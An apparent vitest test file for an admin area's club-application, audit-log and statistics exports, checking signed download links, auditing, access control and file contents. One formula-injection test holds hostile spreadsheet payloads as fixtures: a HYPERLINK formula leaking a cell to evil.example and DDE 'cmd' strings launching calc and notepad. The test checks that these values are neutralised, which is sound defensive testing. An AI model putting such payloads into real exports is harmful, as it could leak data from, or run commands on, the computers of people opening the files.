// Exports of the administration area (administration.md sections 3, 7, 8 and 9; issue 11
// 'Exports'): club applications (xlsx, csv, json; with history and notes), the audit log and the
// application statistics. Each export is for platform administrators only, audited once, and
// answers a signed download address that works for 5 minutes; the download is parsed back (exceljs
// reads the .xlsx, csv-parse the .csv) and compared with what the database holds.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { and, asc, eq, inArray, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { SignJWT, decodeJwt } from 'jose';
import { randomBytes } from 'node:crypto';
import type { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { csvFile, jsonArrayFile, xlsxFile, type Cell, type Sheet } from '../../server/src/lib/export-files.js';
import { adminActions, appSettings, clubs, users } from '../../server/src/db/schema/index.js';
import type { Viewer } from '../../server/src/lib/viewer.js';
import { AppError } from '../../server/src/lib/errors.js';
import { ApiClient, newMember } from '../helpers/client.js';
import { dbOf, onlyError, type Member } from '../helpers/messages.js';
import { startServer, type TestServer } from '../helpers/server.js';
import {
  ADMIN_TEXT,
  approveOk,
  auditCount,
  bootstrapAdmin,
  clearAdminRateLimits,
  memberGid,
  newAdmin,
  newApplication,
  rejectOk,
  setAuditTime,
  setCreatedAt,
  setVerified,
  statistics,
  type Application,
} from '../helpers/admin.js';

// ---------------------------------------------------------------------------------------------
// What the exports answer (written here on the test side).

const TEXT = {
  invalidDateRange: 'The start date must not be after the end date',
  invalidFormat: 'Format must be xlsx, csv or json',
  invalidAdminId: 'Invalid admin ID format',
  linkInvalid: 'This download link is not valid. Please export again.',
  linkExpired: 'This download link has expired. Please export again.',
};
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const CONTENT_TYPE = { xlsx: XLSX_TYPE, csv: 'text/csv; charset=utf-8', json: 'application/json; charset=utf-8' } as const;
const APPLICATION_HEADERS = [
  'id',
  'name',
  'contact_email',
  'contact_phone',
  'location',
  'sport_types',
  'website_url',
  'description',
  'application_status',
  'created_at',
  'reviewed_at',
  'admin_notes',
  'history',
];
const AUDIT_HEADERS = ['id', 'action_type', 'target_type', 'target_id', 'target_name', 'details', 'admin_id', 'admin_name', 'admin_email', 'ip_address', 'created_at'];
/** The columns holding times say UTC in the xlsx and csv header (issue 25); json keys are the
 *  specification's names. */
const UTC_FIELDS = new Set(['created_at', 'reviewed_at', 'history']);
const sheetHeaders = (fields: string[], format: Format) => (format === 'json' ? fields : fields.map((f) => (UTC_FIELDS.has(f) ? `${f} (UTC)` : f)));
/** A sheet header's field: the name without ' (UTC)'. */
const fieldOf = (header: string) => header.replace(/ \(UTC\)$/, '');
const REVIEW_ACTIONS = ['approve', 'reject', 'bulk_approve', 'bulk_reject', 'verify', 'unverify'] as const;

const FILE = 'file { downloadUrl filename expiresAt } userErrors { field code message }';
const EXPORT_APPLICATIONS = `mutation Export($input: ExportClubApplicationsInput!) { exportClubApplications(input: $input) { ${FILE} } }`;
const EXPORT_AUDIT = `mutation Export($input: ExportAdminActionsInput!) { exportAdminActions(input: $input) { ${FILE} } }`;
const EXPORT_STATISTICS = `mutation Export($input: ExportClubApplicationStatisticsInput!) { exportClubApplicationStatistics(input: $input) { ${FILE} } }`;
const MUTATIONS = {
  exportClubApplications: EXPORT_APPLICATIONS,
  exportAdminActions: EXPORT_AUDIT,
  exportClubApplicationStatistics: EXPORT_STATISTICS,
} as const;
type ExportName = keyof typeof MUTATIONS;
type Format = 'xlsx' | 'csv' | 'json';
const FORMATS: Format[] = ['xlsx', 'csv', 'json'];

interface ExportFileView {
  downloadUrl: string;
  filename: string;
  expiresAt: string;
}

let server: TestServer;
let admin: Awaited<ReturnType<typeof bootstrapAdmin>>;
const today = () => new Date().toISOString().slice(0, 10);

beforeAll(async () => {
  server = await startServer({ rateLimit: { windowMinutes: 15, failsPerEmailIp: 10, failsPerIpPerDay: 1000, perIp: 10_000 } });
  admin = await bootstrapAdmin(server);
});
afterAll(async () => {
  await server?.close();
});
beforeEach(async () => {
  if (server) await clearAdminRateLimits(server);
});

// ---------------------------------------------------------------------------------------------
// Calls and parsing.

async function exportOk(client: ApiClient, name: ExportName, input: Record<string, unknown>): Promise<ExportFileView> {
  const answer = await client.gql(MUTATIONS[name], { input });
  if (answer.errors?.length) throw new Error(`${name} failed: ${JSON.stringify(answer.errors)}`);
  const payload = answer.data[name];
  if (payload.userErrors.length) throw new Error(`${name} refused: ${JSON.stringify(payload.userErrors)}`);
  return payload.file;
}

interface Download {
  status: number;
  headers: Headers;
  body: Buffer;
}

async function download(path: string): Promise<Download> {
  const res = await fetch(server.url + path);
  return { status: res.status, headers: res.headers, body: Buffer.from(await res.arrayBuffer()) };
}

async function downloadOk(file: ExportFileView, format: Format): Promise<Buffer> {
  const got = await download(file.downloadUrl);
  expect(got.status, got.body.toString('utf8').slice(0, 300)).toBe(200);
  expect(got.headers.get('content-type')).toBe(CONTENT_TYPE[format]);
  expect(got.headers.get('content-disposition')).toBe(`attachment; filename="${file.filename}"`);
  expect(got.headers.get('cache-control')).toBe('no-store');
  expect(got.headers.get('x-content-type-options')).toBe('nosniff');
  return got.body;
}

type Row = Record<string, unknown>;

/** Each worksheet: its name and its rows as [header → value] (empty cells null). */
async function readWorkbook(body: Buffer): Promise<{ name: string; headers: string[]; rows: Row[] }[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook.worksheets.map((sheet) => {
    const lines: unknown[][] = [];
    sheet.eachRow((row) => lines.push((row.values as unknown[]).slice(1)));
    const headers = (lines[0] ?? []) as string[];
    const rows = lines.slice(1).map((cells) => Object.fromEntries(headers.map((h, i) => [fieldOf(h), cells[i] ?? null])));
    return { name: sheet.name, headers, rows };
  });
}

function readCsv(body: Buffer): { headers: string[]; rows: Row[] } {
  const lines = parse(body, { bom: true }) as string[][];
  const headers = lines[0]!;
  return { headers, rows: lines.slice(1).map((cells) => Object.fromEntries(headers.map((h, i) => [fieldOf(h), cells[i]]))) };
}

/** Text that starts with = + - @ (or ＝ ＋ － ＠), a tab or a carriage return, neutralised with a
 *  quote: the same in csv and xlsx (issue 25). */
const neutralised = (s: string) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(s) ? `'${s}` : s);
/** What a CSV cell holds for a value: empty for none; text neutralised. */
const csvText = (value: unknown): string => {
  if (value == null) return '';
  return value instanceof Date ? value.toISOString() : neutralised(String(value));
};
/** What an xlsx cell holds for a value read back: dates as dates, texts neutralised, none as null. */
const xlsxValue = (value: unknown): unknown => (value === '' || value === undefined ? null : typeof value === 'string' ? neutralised(value) : value);

// ---------------------------------------------------------------------------------------------
// What the database holds.

type ClubRecord = typeof clubs.$inferSelect;

interface ExpectedApplication {
  club: ClubRecord;
  history: { created_at: string; action_type: string; admin_name: string; admin_email: string; details: string }[];
}

/** The applications submitted in [from, to] (UTC days) of a status, oldest first, with their review history. */
async function expectedApplications(filter: { from?: string; to?: string; status?: ClubRecord['applicationStatus'] } = {}): Promise<ExpectedApplication[]> {
  const db = dbOf(server);
  const rows = (await db.select().from(clubs).orderBy(asc(clubs.createdAt), asc(clubs.id))).filter((c) => {
    const submitted = c.createdAt.toISOString().slice(0, 10);
    return (!filter.from || submitted >= filter.from) && (!filter.to || submitted <= filter.to) && (!filter.status || c.applicationStatus === filter.status);
  });
  const entries = rows.length
    ? await db
        .select()
        .from(adminActions)
        .where(and(inArray(adminActions.targetId, rows.map((r) => r.id)), inArray(adminActions.actionType, [...REVIEW_ACTIONS])))
        .orderBy(asc(adminActions.createdAt), asc(adminActions.id))
    : [];
  return rows.map((club) => ({
    club,
    history: entries
      .filter((e) => e.targetId === club.id)
      .map((e) => ({ created_at: e.createdAt.toISOString(), action_type: e.actionType, admin_name: e.adminName, admin_email: e.adminEmail, details: e.details })),
  }));
}

const historyText = (h: ExpectedApplication['history']) =>
  h.length ? h.map((e) => `${e.created_at.slice(0, 16).replace('T', ' ')} ${e.action_type} by ${e.admin_name}: ${e.details}`).join('\n') : null;

/** An application as a spreadsheet row holds it (before CSV or xlsx encoding). */
function tableRow(a: ExpectedApplication, opts = { notes: true, history: true }): Row {
  const c = a.club;
  const row: Row = {
    id: c.id,
    name: c.name,
    contact_email: c.contactEmail,
    contact_phone: c.contactPhone,
    location: c.city,
    sport_types: c.category,
    website_url: c.website,
    description: c.description,
    application_status: c.applicationStatus,
    created_at: c.createdAt,
    reviewed_at: c.reviewedAt,
  };
  if (opts.notes) row.admin_notes = c.adminNotes;
  if (opts.history) row.history = historyText(a.history);
  return row;
}

function jsonRow(a: ExpectedApplication, opts = { notes: true, history: true }): Row {
  const c = a.club;
  const row: Row = {
    id: c.id,
    name: c.name,
    contact_email: c.contactEmail,
    contact_phone: c.contactPhone,
    location: c.city,
    sport_types: c.category ? [c.category] : [],
    website_url: c.website,
    description: c.description,
    application_status: c.applicationStatus,
    created_at: c.createdAt.toISOString(),
    reviewed_at: c.reviewedAt?.toISOString() ?? null,
  };
  if (opts.notes) row.admin_notes = c.adminNotes;
  if (opts.history) row.history = a.history;
  return row;
}

const asCsv = (row: Row): Row => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, csvText(v)]));
const asXlsx = (row: Row): Row => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, xlsxValue(v)]));
/** An xlsx row as read back: empty cells null, nothing else changed. */
const readXlsx = (row: Row): Row => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, v === '' || v === undefined ? null : v]));

/** The file's rows in the shape of `tableRow`/`jsonRow` for comparison. */
async function applicationRows(body: Buffer, format: Format): Promise<{ headers: string[]; rows: Row[] }> {
  if (format === 'json') {
    const rows = JSON.parse(body.toString('utf8')) as Row[];
    return { headers: rows[0] ? Object.keys(rows[0]) : [], rows };
  }
  if (format === 'csv') return readCsv(body);
  const [sheet, ...others] = await readWorkbook(body);
  expect(others).toEqual([]);
  return { headers: sheet!.headers, rows: sheet!.rows.map(readXlsx) };
}

function expectedRows(expected: ExpectedApplication[], format: Format, opts = { notes: true, history: true }): Row[] {
  if (format === 'json') return expected.map((a) => jsonRow(a, opts));
  const rows = expected.map((a) => tableRow(a, opts));
  return format === 'csv' ? rows.map(asCsv) : rows.map(asXlsx);
}

/** Export audit entries, oldest first. */
const exportEntries = () =>
  dbOf(server).select().from(adminActions).where(eq(adminActions.actionType, 'export')).orderBy(asc(adminActions.createdAt), asc(adminActions.id));

/** The signing secret of export addresses, as the server keeps it. */
async function exportSecret(): Promise<Uint8Array> {
  const [row] = await dbOf(server).select().from(appSettings).where(eq(appSettings.key, 'export_secret'));
  return new TextEncoder().encode(row!.value);
}

// ---------------------------------------------------------------------------------------------
// The applications: five clubs in March and April 2026, decided through the GraphQL mutations.

let pendingApp: Application;
let approvedApp: Application;
let rejectedApp: Application;
let verifiedApp: Application;
let lateApp: Application;

beforeAll(async () => {
  pendingApp = await newApplication(server, { name: 'Alder Athletic', profile: { city: 'London', category: 'Athletics' } });
  approvedApp = await newApplication(server, { name: 'Birch Badminton Club', profile: { city: 'Leeds', category: 'Badminton' } });
  rejectedApp = await newApplication(server, { name: 'Cedar Cricket Club', profile: { city: 'Bristol', category: 'Cricket' } });
  verifiedApp = await newApplication(server, { name: 'Damson Darts', profile: { city: 'Leeds', category: 'Other', contactPhone: null } });
  lateApp = await newApplication(server, { name: 'Elm Esports', profile: false });
  await setCreatedAt(server, pendingApp.uuid, new Date('2026-03-05T09:15:00.000Z'));
  await setCreatedAt(server, approvedApp.uuid, new Date('2026-03-10T10:00:00.000Z'));
  await setCreatedAt(server, rejectedApp.uuid, new Date('2026-04-02T11:30:00.000Z'));
  await setCreatedAt(server, verifiedApp.uuid, new Date('2026-04-20T08:45:00.000Z'));
  await setCreatedAt(server, lateApp.uuid, new Date('2026-05-15T12:00:00.000Z'));
  await approveOk(admin.client, approvedApp.clubId, 'Great club, all documents in order');
  await rejectOk(admin.client, rejectedApp.clubId, 'Incomplete details');
  await approveOk(admin.client, verifiedApp.clubId);
  const verified = await setVerified(admin.client, verifiedApp.clubId, true);
  expect(verified.errors).toBeUndefined();
});

describe('exporting club applications', () => {
  for (const format of FORMATS) {
    it(`${format}: every application with its notes and review history, as the database holds them, audited once`, async () => {
      const before = await exportEntries();
      const file = await exportOk(admin.client, 'exportClubApplications', { format: format.toUpperCase() });
      expect(file.filename).toBe(`club-applications-${today()}.${format}`);
      expect(file.downloadUrl).toMatch(/^\/api\/admin\/exports\/[\w-]+\.[\w-]+\.[\w-]+$/);
      const claims = decodeJwt(file.downloadUrl.split('/').pop()!);
      expect(claims.exp! - claims.iat!).toBe(300);
      expect(new Date(file.expiresAt).getTime()).toBe(claims.exp! * 1000);
      expect(claims.sub).toBe(admin.id);

      const after = await exportEntries();
      expect(after).toHaveLength(before.length + 1);
      expect(after[after.length - 1]).toMatchObject({
        actionType: 'export',
        targetType: 'export',
        targetId: null,
        targetName: file.filename,
        details: `Exported club applications (${format})`,
        adminId: admin.id,
        adminName: admin.name,
        adminEmail: admin.email,
        ipAddress: '127.0.0.1',
      });

      const { headers, rows } = await applicationRows(await downloadOk(file, format), format);
      expect(headers).toEqual(sheetHeaders(APPLICATION_HEADERS, format));
      const expected = await expectedApplications();
      expect(expected.map((a) => a.club.id)).toEqual([pendingApp.uuid, approvedApp.uuid, rejectedApp.uuid, verifiedApp.uuid, lateApp.uuid]);
      expect(rows).toEqual(expectedRows(expected, format));
    });
  }

  it('the values are the ones entered and decided: status, notes, reason, review time and the history lines', async () => {
    const file = await exportOk(admin.client, 'exportClubApplications', { format: 'JSON' });
    const rows = JSON.parse((await downloadOk(file, 'json')).toString('utf8')) as Row[];
    const byId = new Map(rows.map((r) => [r.id, r]));
    expect(byId.get(pendingApp.uuid)).toMatchObject({ name: 'Alder Athletic', location: 'London', sport_types: ['Athletics'], application_status: 'pending', reviewed_at: null, admin_notes: null, history: [] });
    expect(byId.get(approvedApp.uuid)).toMatchObject({
      name: 'Birch Badminton Club',
      application_status: 'approved',
      admin_notes: 'Great club, all documents in order',
      history: [expect.objectContaining({ action_type: 'approve', admin_name: admin.name, admin_email: admin.email, details: 'Application approved: Great club, all documents in order' })],
    });
    expect(byId.get(rejectedApp.uuid)).toMatchObject({ application_status: 'rejected', admin_notes: 'Incomplete details', history: [expect.objectContaining({ action_type: 'reject', details: 'Application rejected: Incomplete details' })] });
    expect((byId.get(verifiedApp.uuid)!.history as Row[]).map((h) => h.action_type)).toEqual(['approve', 'verify']);
    expect(byId.get(verifiedApp.uuid)!.contact_phone).toBeNull();
    expect(byId.get(lateApp.uuid)).toMatchObject({ location: null, sport_types: [], description: null, website_url: null });
    expect(String(byId.get(approvedApp.uuid)!.reviewed_at)).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);

    const csv = readCsv(await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'CSV' }), 'csv'));
    const verifiedRow = csv.rows.find((r) => r.id === verifiedApp.uuid)!;
    const lines = String(verifiedRow.history).split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(new RegExp(`^\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2} approve by ${admin.name}: Application approved$`));
    expect(lines[1]).toMatch(new RegExp(`^\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2} verify by ${admin.name}: `));
    expect(csv.rows.find((r) => r.id === pendingApp.uuid)!.history).toBe('');
  });

  it('filters by submission days and status; without history and notes those columns are left out', async () => {
    for (const format of FORMATS) {
      const file = await exportOk(admin.client, 'exportClubApplications', {
        format: format.toUpperCase(),
        from: '2026-03-06',
        to: '2026-04-30',
        status: 'APPROVED',
        includeHistory: false,
        includeAdminNotes: false,
      });
      const { headers, rows } = await applicationRows(await downloadOk(file, format), format);
      expect(headers).toEqual(sheetHeaders(APPLICATION_HEADERS.filter((h) => h !== 'admin_notes' && h !== 'history'), format));
      const expected = await expectedApplications({ from: '2026-03-06', to: '2026-04-30', status: 'approved' });
      expect(expected.map((a) => a.club.id)).toEqual([approvedApp.uuid, verifiedApp.uuid]);
      expect(rows).toEqual(expectedRows(expected, format, { notes: false, history: false }));
    }
    const [last] = (await exportEntries()).slice(-1);
    expect(last!.details).toBe('Exported club applications (json): status approved, from 2026-03-06, to 2026-04-30, without history, without admin notes');

    // The bounds are whole days: an application submitted on `to` is in, the day after is not.
    const march = await exportOk(admin.client, 'exportClubApplications', { format: 'JSON', from: '2026-03-05', to: '2026-03-10' });
    const ids = (JSON.parse((await downloadOk(march, 'json')).toString('utf8')) as Row[]).map((r) => r.id);
    expect(ids).toEqual([pendingApp.uuid, approvedApp.uuid]);
  });

  it('a period with no applications gives the header row only (xlsx, csv) or an empty list (json)', async () => {
    for (const format of FORMATS) {
      const file = await exportOk(admin.client, 'exportClubApplications', { format: format.toUpperCase(), from: '2025-01-01', to: '2025-01-31' });
      const { rows } = await applicationRows(await downloadOk(file, format), format);
      expect(rows).toEqual([]);
    }
    const csv = await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'CSV', from: '2025-01-01', to: '2025-01-31' }), 'csv');
    expect(csv.toString('utf8')).toBe(`\uFEFF${sheetHeaders(APPLICATION_HEADERS, 'csv').join(',')}\r\n`);
    const json = await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'JSON', from: '2025-01-01', to: '2025-01-31' }), 'json');
    expect(JSON.parse(json.toString('utf8'))).toEqual([]);
  });
});

describe('formula injection', () => {
  it('csv and xlsx neutralise cells that start with = + - @ with a quote (one rule); xlsx writes them as text, never formulas; json as entered', async () => {
    const hostile = await newApplication(server, { name: 'Formula Club' });
    await setCreatedAt(server, hostile.uuid, new Date('2026-04-25T10:00:00.000Z'));
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    await dbOf(server).update(clubs).set({ name, description: '@SUM(1+1)*cmd|\' /C calc\'!A0', contactPhone: '-2+3' }).where(eq(clubs.id, hostile.uuid));
    await rejectOk(admin.client, hostile.clubId, '+cmd|" /C notepad"!A1');

    const range = { from: '2026-04-25', to: '2026-04-25' };
    const csv = readCsv(await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'CSV', ...range }), 'csv'));
    expect(csv.rows).toHaveLength(1);
    expect(csv.rows[0]).toMatchObject({
      name: `'${name}`,
      description: `'@SUM(1+1)*cmd|' /C calc'!A0`,
      contact_phone: `'-2+3`,
      admin_notes: `'+cmd|" /C notepad"!A1`,
    });

    const xlsx = await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'XLSX', ...range }), 'xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const nameCell = sheet.getRow(2).getCell(2);
    expect(nameCell.type).toBe(ExcelJS.ValueType.String);
    expect(nameCell.value).toBe(`'${name}`);
    expect(sheet.getRow(2).getCell(12).value).toBe(`'+cmd|" /C notepad"!A1`);
    // Re-editing such a cell in Excel or LibreOffice keeps it text: the quote is a text prefix.
    expect(sheet.getRow(2).getCell(4).value).toBe(`'-2+3`);

    const json = JSON.parse((await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'JSON', ...range }), 'json')).toString('utf8')) as Row[];
    expect(json[0]).toMatchObject({ name, contact_phone: '-2+3', admin_notes: '+cmd|" /C notepad"!A1' });

    // Put back out of the other tests' way.
    await dbOf(server).delete(users).where(eq(users.id, hostile.uuid));
  });
});

describe('exporting the audit log', () => {
  let second: Member;

  beforeAll(async () => {
    second = await newAdmin(server, 'Second Admin');
    const extra = await newApplication(server, { name: 'Fir Fencing Club' });
    await setCreatedAt(server, extra.uuid, new Date('2026-05-20T10:00:00.000Z'));
    await rejectOk(second.client, extra.clubId, 'Duplicate registration');
    // Dated entries for the day filters.
    const [entry] = await dbOf(server).select().from(adminActions).where(eq(adminActions.targetId, extra.uuid));
    await setAuditTime(server, { id: entry!.id }, new Date('2026-06-01T10:00:00.000Z'));
  });

  const auditRowsOf = (rows: (typeof adminActions.$inferSelect)[]) =>
    rows.map((r) => ({
      id: r.id,
      action_type: r.actionType,
      target_type: r.targetType,
      target_id: r.targetId,
      target_name: r.targetName,
      details: r.details,
      admin_id: r.adminId,
      admin_name: r.adminName,
      admin_email: r.adminEmail,
      ip_address: r.ipAddress,
      created_at: r.createdAt,
    }));

  async function auditFileRows(body: Buffer, format: Format): Promise<{ headers: string[]; rows: Row[] }> {
    if (format === 'json') {
      const rows = JSON.parse(body.toString('utf8')) as Row[];
      return { headers: rows[0] ? Object.keys(rows[0]) : [], rows };
    }
    if (format === 'csv') return readCsv(body);
    const [sheet] = await readWorkbook(body);
    expect(sheet!.name).toBe('Audit log');
    return { headers: sheet!.headers, rows: sheet!.rows.map(readXlsx) };
  }

  const expectedAudit = (rows: ReturnType<typeof auditRowsOf>, format: Format): Row[] =>
    format === 'json'
      ? rows.map((r) => ({ ...r, created_at: r.created_at.toISOString() }))
      : format === 'csv'
        ? rows.map((r) => asCsv(r))
        : rows.map((r) => asXlsx(r));

  for (const format of FORMATS) {
    it(`${format}: every entry, oldest first, the export itself included, audited once`, async () => {
      const before = await auditCount(server);
      const file = await exportOk(admin.client, 'exportAdminActions', { format: format.toUpperCase() });
      expect(file.filename).toBe(`admin-audit-log-${today()}.${format}`);
      expect(await auditCount(server)).toBe(before + 1);
      const [mine] = (await exportEntries()).slice(-1);
      expect(mine).toMatchObject({ targetName: file.filename, targetId: null, targetType: 'export', details: `Exported the audit log (${format})`, adminId: admin.id });

      const { headers, rows } = await auditFileRows(await downloadOk(file, format), format);
      expect(headers).toEqual(sheetHeaders(AUDIT_HEADERS, format));
      const all = await dbOf(server).select().from(adminActions).orderBy(asc(adminActions.createdAt), asc(adminActions.id));
      expect(all.length).toBeGreaterThan(5);
      expect(rows).toEqual(expectedAudit(auditRowsOf(all), format));
    });
  }

  it('filters by action type, administrator and days', async () => {
    for (const format of FORMATS) {
      const rejects = await exportOk(admin.client, 'exportAdminActions', { format: format.toUpperCase(), actionType: 'REJECT' });
      const rejectRows = await dbOf(server).select().from(adminActions).where(eq(adminActions.actionType, 'reject')).orderBy(asc(adminActions.createdAt), asc(adminActions.id));
      expect(rejectRows.length).toBeGreaterThanOrEqual(2);
      expect((await auditFileRows(await downloadOk(rejects, format), format)).rows).toEqual(expectedAudit(auditRowsOf(rejectRows), format));
    }

    const bySecond = await exportOk(admin.client, 'exportAdminActions', { format: 'JSON', adminId: memberGid(second.user.id) });
    const secondRows = await dbOf(server).select().from(adminActions).where(eq(adminActions.adminId, second.user.id)).orderBy(asc(adminActions.createdAt), asc(adminActions.id));
    expect(secondRows).toHaveLength(1);
    expect(JSON.parse((await downloadOk(bySecond, 'json')).toString('utf8'))).toEqual(expectedAudit(auditRowsOf(secondRows), 'json'));
    const [entry] = (await exportEntries()).slice(-1);
    expect(entry!.details).toBe(`Exported the audit log (json): administrator ${second.email}`);

    const june = await exportOk(admin.client, 'exportAdminActions', { format: 'CSV', from: '2026-06-01', to: '2026-06-01' });
    const juneRows = readCsv(await downloadOk(june, 'csv')).rows;
    expect(juneRows.map((r) => r.id)).toEqual(secondRows.map((r) => r.id));
    expect(juneRows[0]).toMatchObject({ action_type: 'reject', target_name: 'Fir Fencing Club', details: 'Application rejected: Duplicate registration', admin_name: 'Second Admin' });
  });

  it("keeps the Audit tab's search: only entries whose target, details or administrator match", async () => {
    const found = await exportOk(admin.client, 'exportAdminActions', { format: 'JSON', search: 'fir fencing' });
    const rows = JSON.parse((await downloadOk(found, 'json')).toString('utf8')) as { action_type: string; target_name: string; details: string }[];
    // The export's own audit entry is written before the file is read, and its details say the search.
    const reviews = rows.filter((r) => r.action_type !== 'export');
    expect(reviews.length).toBeGreaterThan(0);
    for (const row of reviews) expect(row.target_name).toBe('Fir Fencing Club');
    for (const row of rows.filter((r) => r.action_type === 'export')) expect(row.details.toLowerCase()).toContain('fir fencing');
    const [entry] = (await exportEntries()).slice(-1);
    expect(entry!.details).toBe('Exported the audit log (json): search "fir fencing"');
  });
});

describe('exporting the statistics', () => {
  const period = { from: '2026-03-01', to: '2026-04-30' };

  it('json: the report of the period as the statistics query answers it', async () => {
    const file = await exportOk(admin.client, 'exportClubApplicationStatistics', { format: 'JSON', ...period });
    expect(file.filename).toBe(`club-application-statistics-${today()}.json`);
    const [entry] = (await exportEntries()).slice(-1);
    expect(entry).toMatchObject({ targetName: file.filename, details: 'Exported club application statistics (json): from 2026-03-01, to 2026-04-30' });
    const report = await statistics(admin.client, period);
    expect(report).toMatchObject({ totalApplications: 4, approvedApplications: 2, pendingApplications: 1, rejectedApplications: 1 });
    expect(JSON.parse((await downloadOk(file, 'json')).toString('utf8'))).toEqual({
      date_from: '2026-03-01',
      date_to: '2026-04-30',
      total_applications: report.totalApplications,
      approved_applications: report.approvedApplications,
      pending_applications: report.pendingApplications,
      rejected_applications: report.rejectedApplications,
      approval_rate: report.approvalRate,
      average_processing_time_hours: report.averageProcessingTimeHours,
      top_rejection_reasons: report.topRejectionReasons,
      applications_by_month: report.applicationsByMonth,
      applications_by_location: report.applicationsByLocation,
    });
  });

  it('xlsx: one worksheet per section; csv: the same sections one after another', async () => {
    const report = await statistics(admin.client, period);
    const hours = Math.round(report.averageProcessingTimeHours! * 100) / 100;
    const summary: [string, string | number][] = [
      ['From (UTC)', '2026-03-01'],
      ['To (UTC)', '2026-04-30'],
      ['Total applications', 4],
      ['Approved applications', 2],
      ['Pending applications', 1],
      ['Rejected applications', 1],
      ['Approval rate (%)', 67],
      ['Average processing time (hours)', hours],
    ];
    expect(report.topRejectionReasons).toEqual([{ reason: 'Incomplete details', count: 1 }]);
    expect(report.applicationsByMonth).toEqual([
      { month: '2026-03', total: 2, approved: 1, pending: 1, rejected: 0 },
      { month: '2026-04', total: 2, approved: 1, pending: 0, rejected: 1 },
    ]);
    const sections = [
      { name: 'Summary', headers: ['Metric', 'Value'], rows: summary },
      { name: 'Top rejection reasons', headers: ['Reason', 'Count'], rows: report.topRejectionReasons.map((r) => [r.reason, r.count]) },
      { name: 'Applications by month', headers: ['Month (UTC)', 'Total', 'Approved', 'Pending', 'Rejected'], rows: report.applicationsByMonth.map((m) => [m.month, m.total, m.approved, m.pending, m.rejected]) },
      { name: 'Applications by location', headers: ['Location', 'Count'], rows: report.applicationsByLocation.map((l) => [l.location, l.count]) },
    ];
    expect(report.applicationsByLocation).toEqual([
      { location: 'Leeds', count: 2 },
      { location: 'Bristol', count: 1 },
      { location: 'London', count: 1 },
    ]);

    const xlsx = await readWorkbook(await downloadOk(await exportOk(admin.client, 'exportClubApplicationStatistics', { format: 'XLSX', ...period }), 'xlsx'));
    expect(xlsx.map((s) => ({ name: s.name, headers: s.headers, rows: s.rows.map((r) => Object.values(r)) }))).toEqual(sections);

    const csv = parse(await downloadOk(await exportOk(admin.client, 'exportClubApplicationStatistics', { format: 'CSV', ...period }), 'csv'), {
      bom: true,
      relax_column_count: true,
      skip_empty_lines: false,
    }) as string[][];
    const expectedLines = sections.flatMap((s, i) => [...(i > 0 ? [['']] : []), [s.name], s.headers, ...s.rows.map((r) => r.map(String))]);
    expect(csv).toEqual(expectedLines);
  });
});

describe('who may export, and the download address', () => {
  const anyExport = [
    ['exportClubApplications', {}],
    ['exportAdminActions', {}],
    ['exportClubApplicationStatistics', {}],
  ] as const;

  it("anonymous callers get 'Authentication required', members 'Admin permissions required'; nothing is audited", async () => {
    const member = await newMember(server.url, { fullName: 'Nosy Member' });
    const before = await auditCount(server);
    for (const [name, input] of anyExport) {
      const anonymous = await new ApiClient(server.url).gql(MUTATIONS[name], { input });
      expect(onlyError(anonymous)).toMatchObject({ message: ADMIN_TEXT.authenticationRequired, extensions: { code: 'UNAUTHENTICATED' } });
      expect(anonymous.data?.[name] ?? null).toBeNull();
      const refused = await member.client.gql(MUTATIONS[name], { input });
      expect(onlyError(refused)).toMatchObject({ message: ADMIN_TEXT.adminRequired, extensions: { code: 'FORBIDDEN' } });
    }
    expect(await auditCount(server)).toBe(before);
  });

  it('bad input gives userErrors and writes no audit entry: from after to, an admin id that is not one', async () => {
    const before = await auditCount(server);
    for (const name of ['exportClubApplications', 'exportAdminActions', 'exportClubApplicationStatistics'] as const) {
      const answer = await admin.client.gql(MUTATIONS[name], { input: { from: '2026-04-02', to: '2026-04-01' } });
      expect(answer.errors).toBeUndefined();
      expect(answer.data[name]).toEqual({ file: null, userErrors: [{ field: 'to', code: 'BAD_USER_INPUT', message: TEXT.invalidDateRange }] });
    }
    const badAdmin = await admin.client.gql(EXPORT_AUDIT, { input: { adminId: 'not-an-admin' } });
    expect(badAdmin.data.exportAdminActions).toEqual({ file: null, userErrors: [{ field: 'adminId', code: 'BAD_USER_INPUT', message: TEXT.invalidAdminId }] });
    expect(await auditCount(server)).toBe(before);
  });

  it('an unknown format is refused (by the schema over GraphQL, by the rules in the service) and writes no audit entry', async () => {
    const before = await auditCount(server);
    const answer = await admin.client.gql(EXPORT_APPLICATIONS, { input: { format: 'PDF' } });
    expect(onlyError(answer).extensions?.code).toBe('BAD_USER_INPUT');
    const viewer: Viewer = { userId: admin.id, sessionId: admin.id, email: admin.email, role: 'platform_admin', isPlatformAdmin: true, isCouncilAdmin: true };
    const exportsService = server.clubroom.services.adminExports;
    for (const call of [
      () => exportsService.applications(viewer, { format: 'pdf' }, { ip: '127.0.0.1' }),
      () => exportsService.auditLog(viewer, { format: 'docx' }, { ip: '127.0.0.1' }),
      () => exportsService.statistics(viewer, { format: 'XLSX' }, { ip: '127.0.0.1' }),
    ]) {
      const err = await call().catch((e: unknown) => e);
      expect(err).toBeInstanceOf(AppError);
